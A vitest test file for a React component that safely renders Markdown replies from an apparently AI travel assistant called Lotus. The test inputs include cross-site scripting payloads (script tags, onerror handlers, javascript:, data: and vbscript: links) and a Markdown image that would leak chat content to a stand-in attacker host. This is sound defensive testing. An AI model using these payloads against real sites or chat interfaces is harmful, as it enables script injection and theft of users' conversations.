import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { SafeMarkdown } from "./safe-markdown";

const render = (md: string) => renderToStaticMarkup(createElement(SafeMarkdown, null, md));

describe("SafeMarkdown (Lotus's replies)", () => {
  it("renders Markdown", () => {
    expect(render("**Day 1**: [Tram 28](https://example.com/tram)")).toBe(
      '<p><strong>Day 1</strong>: <a href="https://example.com/tram" target="_blank" rel="noopener noreferrer nofollow">Tram 28</a></p>',
    );
  });

  it("never renders raw HTML, script links or images", () => {
    const html = render(
      [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [vb](vbscript:msgbox)",
        "![pixel](https://evil.example/leak?chat=secret)",
        '<a href="https://evil.example">raw link</a>',
      ].join("\n\n"),
    );
    expect(html).not.toMatch(/<script|<img|onerror|javascript:|data:text|vbscript:|evil\.example/i);
    expect(html).toContain("click");
    expect(html).toContain("pixel");
  });
});
